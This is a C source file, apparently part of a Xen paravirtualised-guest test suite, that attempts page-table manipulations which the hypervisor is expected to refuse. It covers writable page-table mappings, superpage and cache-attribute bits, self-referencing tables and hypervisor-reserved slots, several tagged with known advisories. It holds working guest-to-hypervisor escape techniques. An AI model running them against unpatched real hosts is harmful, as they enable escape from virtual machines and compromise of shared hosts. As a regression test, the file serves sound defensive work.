/* Page tables: to write them, to make them say more than they may, to have them where the hypervisor's own are. */
#include "attack.h"

#define WRITABLE_TABLE "a writable mapping of a page table"

/* --- a writable mapping of an own page table, by each operation --------------------------------------------------- */

static verdict_t by_update_va_mapping(unsigned int level)
{
    return refused(pte_write(VA(0), own_table(level) | PTE_DATA), WRITABLE_TABLE);
}

static verdict_t by_mmu_update(unsigned int level)
{
    return refused(mmu_set(pte_machine_address(VA(0), 1), own_table(level) | PTE_DATA), WRITABLE_TABLE);
}

static verdict_t by_preserving_update(unsigned int level)
{
    uint64_t where = pte_machine_address(VA(0), 1) | MMU_PT_UPDATE_PRESERVE_AD;
    return refused(mmu_set(where, own_table(level) | PTE_DATA), WRITABLE_TABLE);
}

static verdict_t by_multicall(unsigned int level)
{
    uint64_t entry = own_table(level) | PTE_DATA;
    multicall_entry_t call = {.op = __HYPERVISOR_update_va_mapping, .args = {VA(0), (unsigned long)entry}};
#ifndef __x86_64__
    call.args[2] = (unsigned long)(entry >> 32);
#endif
    call.args[sizeof(long) == 8 ? 2 : 3] = UVMF_INVLPG;
    hypercall_multicall(&call, 1);
    return refused((long)call.result, WRITABLE_TABLE);
}

/* The store is caught and done by the hypervisor ("writable page tables"), if it finds the entry good. */
static verdict_t by_direct_write(unsigned int level)
{
    try_store(pte_pointer(VA(0), 1), (unsigned long)(own_table(level) | PTE_DATA));
    return trapped(WRITABLE_TABLE);
}

/* First read-only, which is allowed; then only the flag changes. */
static verdict_t by_flag_only_change(unsigned int level)
{
    uint64_t table = own_table(level), where = pte_machine_address(VA(0), 1);
    if (mmu_set(where, table | READ_ONLY))
        return broke_out("no read-only mapping of a page table, which the guest may have");
    return refused(mmu_set(where, table | READ_ONLY | PTE_WRITABLE), WRITABLE_TABLE);
}

static verdict_t by_flag_only_write(unsigned int level)
{
    uint64_t table = own_table(level);
    pte_write(VA(0), table | READ_ONLY);
    TRY("lock btsl $1, (%[pte])", : [pte] "r"(pte_pointer(VA(0), 1)) : "memory");
    return trapped(WRITABLE_TABLE);
}

/* The mapping lies in a new L1 table, which is looked at when it is linked. */
static verdict_t by_alias(unsigned int level)
{
    ((uint64_t *)page[1])[0] = own_table(level) | PTE_DATA;
    read_only(page[1]);
    return refused(mmu_set(new_region_entry(), entry_of(page[1], LINK)), WRITABLE_TABLE);
}

/* The same for an L1 table that is linked already, through its second place in the address space. */
static verdict_t by_linked_alias(unsigned int level)
{
    read_only(page[1]);
    mmu_set(new_region_entry(), entry_of(page[1], LINK));
    return refused(pte_write(NEW_REGION, own_table(level) | PTE_DATA), WRITABLE_TABLE);
}

static verdict_t by_pinned_alias(unsigned int level)
{
    ((uint64_t *)page[1])[511] = own_table(level) | PTE_DATA;
    read_only(page[1]);
    return refused(pin(1, page[1]), WRITABLE_TABLE);
}

/* The hypervisor itself as the writer. */
static verdict_t by_clear_page(unsigned int level)
{
    return refused(extended(MMUEXT_CLEAR_PAGE, own_table(level) >> 12, 0), "a page table cleared");
}

static verdict_t by_copy_page(unsigned int level)
{
    return refused(extended(MMUEXT_COPY_PAGE, own_table(level) >> 12, mfn_of(page[0])), "a page table written over");
}

static verdict_t by_plain_store(unsigned int level)
{
    try_store(pte_pointer(VA(0), level), 0);
    if (level == 1)
        return harmless(!seen.count && !(pte_read(VA(0)) & PTE_PRESENT),
                        "the entry was checked and written by the hypervisor", "an entry that cannot be taken away");
    return trapped("a store to a page table");
}

static verdict_t odd_store(unsigned int level)
{
    volatile uint8_t *entry = (volatile uint8_t *)pte_pointer(VA(0), level);
    TRY("movw $0, 7(%[entry])", : [entry] "r"(entry) : "memory");
    return trapped("a store across two entries");
}

/* --- bits that make an entry mean something else ------------------------------------------------------------------ */

static verdict_t superpage_flag(unsigned int level)
{
    return refused(mmu_set(pte_machine_address(VA(0), level), *pte_pointer(VA(0), level) | PTE_SUPERPAGE),
                   "a superpage over page tables");
}

static verdict_t superpage(unsigned int level)
{
    uint64_t *entry = pte_pointer(level == 2 ? NEW_REGION : VA(0), level);
    entry -= level > 2;                  /* the slot before ours, which is empty */
    uint64_t where = machine_of(entry) + ((unsigned long)entry & (PAGE_SIZE - 1));
    return refused(mmu_set(where, entry_of(page[0], LINK) | PTE_SUPERPAGE), "a superpage");
}

static verdict_t superpage_in_new_table(unsigned int level)
{
    ((uint64_t *)page[1])[0] = entry_of(page[0], LINK) | PTE_SUPERPAGE;
    read_only(page[1]);
    return refused(pin(level, page[1]), "a superpage");
}

static verdict_t global_flag(unsigned int level)
{
    return refused(mmu_set(pte_machine_address(VA(0), level), *pte_pointer(VA(0), level) | 0x100), "a global table");
}

static verdict_t cache_flags(unsigned int level)
{
    uint64_t odd = level == 1 ? 0x80 : 0x18;
    return refused(mmu_set(pte_machine_address(VA(0), level), *pte_pointer(VA(0), level) | odd),
                   "memory with another cache attribute");
}

static verdict_t cache_disabled(unsigned int level)
{
    (void)level;
    return refused(pte_write(VA(0), entry_of(page[0], PTE_DATA | 0x10)), "uncached memory");
}

static verdict_t write_through(unsigned int level)
{
    (void)level;
    ((uint64_t *)page[1])[7] = entry_of(page[0], PTE_DATA | 0x08);
    read_only(page[1]);
    return refused(pin(1, page[1]), "write-through memory");
}

static verdict_t cache_by_direct_write(unsigned int level)
{
    (void)level;
    try_store(pte_pointer(VA(0), 1), (unsigned long)entry_of(page[0], PTE_DATA | 0x18));
    return trapped("uncached memory");
}

static const char *const flush_names[] = {"flush_cache", "flush_cache_global"};

static verdict_t flush_cache(unsigned int level)
{
    return refused(extended(level ? MMUEXT_FLUSH_CACHE_GLOBAL : MMUEXT_FLUSH_CACHE, 0, 0), "the caches flushed");
}

static verdict_t reserved_address_bits(unsigned int level)
{
    return refused(mmu_set(pte_machine_address(VA(0), level), *pte_pointer(VA(0), level) | 1ULL << 51),
                   "an entry with address bits that the processor does not have");
}

/* --- linear and self-referencing tables --------------------------------------------------------------------------- */

static verdict_t linear_writable(unsigned int level)
{
    ((uint64_t *)page[1])[5] = entry_of(page[1], LINK);
    read_only(page[1]);
    return refused(pin(level, page[1]), "a table that maps itself writable");
}

static verdict_t linear_flag_change(unsigned int level)
{
    read_only(page[1]);
    if (pin(level, page[1]))
        return broke_out("no empty table pinned, which the guest may do");
    uint64_t where = machine_of(page[1]) | 5 * 8;
    mmu_set(where, entry_of(page[1], PTE_PRESENT | PTE_USER));
    verdict_t verdict = refused(mmu_set(where, entry_of(page[1], LINK)), "a table that maps itself writable");
    mmu_set(where, 0);
    unpin(page[1]);
    return verdict;
}

/* page[3] would see page[2], which sees page[1]: one deep is all that is allowed. */
static verdict_t linear_chain(unsigned int level)
{
    for (unsigned int i = 1; i <= 3; i++)
        read_only(page[i]);
    if (pin(level, page[1]) || pin(level, page[2]) || pin(level, page[3]))
        return broke_out("no empty tables pinned, which the guest may do");
    mmu_set(machine_of(page[2]), entry_of(page[1], PTE_PRESENT | PTE_USER));
    verdict_t verdict = refused(mmu_set(machine_of(page[3]), entry_of(page[2], PTE_PRESENT | PTE_USER)),
                                "tables within tables within tables");
    mmu_set(machine_of(page[3]), 0);
    mmu_set(machine_of(page[2]), 0);
    for (unsigned int i = 1; i <= 3; i++)
        unpin(page[i]);
    return verdict;
}

/* A table that is its own lower table, one or two levels down. */
static verdict_t own_child(unsigned int level)
{
    ((uint64_t *)page[1])[0] = entry_of(page[2], LINK);
    ((uint64_t *)page[2])[0] = entry_of(page[1], level == 2 ? PTE_DATA : LINK);
    read_only(page[1]);
    read_only(page[2]);
    return refused(pin(level, page[1]), "a table that is its own lower table");
}

static verdict_t own_mapping(unsigned int level)
{
    (void)level;
    ((uint64_t *)page[1])[0] = entry_of(page[1], PTE_DATA);
    read_only(page[1]);
    return refused(mmu_set(new_region_entry(), entry_of(page[1], LINK)), "a table that maps itself writable");
}

/* --- the hypervisor's slots --------------------------------------------------------------------------------------- */

#ifdef __x86_64__
static verdict_t reserved_slot(unsigned int slot)
{
    uint64_t top = machine_of((void *)start_info->pt_base);
    return refused(mmu_set(top | slot * 8, (uint64_t)own_table(3) | LINK), "an entry in the hypervisor's slot");
}

static verdict_t reserved_slot_cleared(unsigned int slot)
{
    return refused(mmu_set(machine_of((void *)start_info->pt_base) | slot * 8, 0), "the hypervisor's slot cleared");
}

static verdict_t reserved_slots_in_new_table(unsigned int level)
{
    (void)level;
    volatile uint64_t *top = (volatile uint64_t *)page[1];
    for (unsigned int slot = 256; slot < 272; slot++)
        top[slot] = own_table(3) | LINK;
    read_only(page[1]);
    int result = pin(4, page[1]);
    if (result)
        return refused(result, NULL);
    bool replaced = true;
    for (unsigned int slot = 256; slot < 272; slot++)
        replaced &= (top[slot] & PTE_FRAME) != own_table(3);
    unpin(page[1]);
    return harmless(replaced, "the slots are the hypervisor's again", "entries in the hypervisor's slots");
}
#else
static verdict_t reserved_slot(unsigned int slot)
{
    uint64_t l2 = pte_machine_address(0xf5800000, 2) & PTE_FRAME;
    return refused(mmu_set(l2 | slot * 8, entry_of(page[1], LINK)), "an entry in the hypervisor's slot");
}

static verdict_t top_slot(unsigned int slot)
{
    return refused(mmu_set(machine_of((void *)start_info->pt_base) | slot * 8, 0),
                   "the top level without its fourth entry");
}

/* The L2 table of the fourth GiB holds the hypervisor's entries, so that it must be there and nowhere else. */
static verdict_t shared_hypervisor_l2(unsigned int level)
{
    (void)level;
    uint64_t link = ((uint64_t *)start_info->pt_base)[3] & PTE_FRAME;
    return refused(mmu_set(machine_of((void *)start_info->pt_base) | 2 * 8, link | PTE_PRESENT),
                   "the hypervisor's L2 table a second time");
}

static verdict_t top_table_without_fourth(unsigned int level)
{
    (void)level;
    read_only(page[1]);
    return refused(pin(3, page[1]), "a top level without the hypervisor's L2 table");
}
#endif

static verdict_t mapping_in_hypervisor(unsigned int level)
{
    (void)level;
    return refused(pte_write((unsigned long)m2p, entry_of(page[0], PTE_DATA)), "a mapping in the hypervisor's part");
}

const struct attempt table_attempts[] = {
    {"writable-L%u-by-update_va_mapping", NULL, by_update_va_mapping, 1, LEVELS, NULL},
    {"writable-L%u-by-mmu_update", NULL, by_mmu_update, 1, LEVELS, NULL},
    {"writable-L%u-by-preserving-mmu_update", NULL, by_preserving_update, 1, LEVELS, NULL},
    {"writable-L%u-by-multicall", NULL, by_multicall, 1, LEVELS, NULL},
    {"writable-L%u-by-direct-write", NULL, by_direct_write, 1, LEVELS, NULL},
    {"writable-L%u-by-flag-only-change", "XSA-182", by_flag_only_change, 1, LEVELS, NULL},
    {"writable-L%u-by-flag-only-write", "XSA-182", by_flag_only_write, 1, LEVELS, NULL},
    {"writable-L%u-by-alias", NULL, by_alias, 1, LEVELS, NULL},
    {"writable-L%u-by-linked-alias", NULL, by_linked_alias, 1, LEVELS, NULL},
    {"writable-L%u-by-pinned-alias", NULL, by_pinned_alias, 1, LEVELS, NULL},
    {"clear-L%u-by-clear_page", NULL, by_clear_page, 1, LEVELS, NULL},
    {"overwrite-L%u-by-copy_page", NULL, by_copy_page, 1, LEVELS, NULL},
    {"store-to-L%u", NULL, by_plain_store, 1, LEVELS, NULL},
    {"store-across-L%u-entries", NULL, odd_store, 1, LEVELS, NULL},
    {"superpage-flag-in-L%u", "XSA-148", superpage_flag, 2, LEVELS, NULL},
    {"superpage-in-L%u", "XSA-148", superpage, 2, LEVELS, NULL},
    {"superpage-in-new-L%u", "XSA-148", superpage_in_new_table, 2, LEVELS, NULL},
    {"global-flag-in-L%u", NULL, global_flag, 2, LEVELS, NULL},
    {"cache-attribute-in-L%u", "XSA-402", cache_flags, 1, LEVELS, NULL},
    {"cache-disabled-page", "XSA-402", cache_disabled, 0, 0, NULL},
    {"cache-write-through-page-in-new-L1", "XSA-402", write_through, 0, 0, NULL},
    {"cache-attribute-by-direct-write", "XSA-402", cache_by_direct_write, 0, 0, NULL},
    {"%s", "XSA-402", flush_cache, 0, 1, flush_names},
    {"address-bit-51-in-L%u", NULL, reserved_address_bits, 1, LEVELS, NULL},
    {"linear-L%u-writable", "XSA-182", linear_writable, 2, LEVELS, NULL},
    {"linear-L%u-flag-only-change", "XSA-182", linear_flag_change, 2, sizeof(long) == 8 ? 4 : 2, NULL},
    {"linear-L%u-chain", "XSA-240", linear_chain, 2, sizeof(long) == 8 ? 4 : 2, NULL},
    {"L%u-that-is-its-own-child", "XSA-240", own_child, 2, LEVELS, NULL},
    {"L1-that-maps-itself", NULL, own_mapping, 0, 0, NULL},
#ifdef __x86_64__
    {"hypervisor-L4-slot-%u", NULL, reserved_slot, 256, 271, NULL},
    {"hypervisor-L4-slot-%u-cleared", NULL, reserved_slot_cleared, 256, 271, NULL},
    {"hypervisor-L4-slots-in-new-table", NULL, reserved_slots_in_new_table, 0, 0, NULL},
#else
    {"hypervisor-L2-slot-%u", NULL, reserved_slot, 0xf5800000 >> 21 & 511, 511, NULL},
    {"PAE-top-slot-%u-cleared", NULL, top_slot, 3, 3, NULL},
    {"PAE-hypervisor-L2-shared", NULL, shared_hypervisor_l2, 0, 0, NULL},
    {"PAE-top-without-hypervisor-L2", NULL, top_table_without_fourth, 0, 0, NULL},
#endif
    {"mapping-in-hypervisor-range", NULL, mapping_in_hypervisor, 0, 0, NULL},
    {0},
};
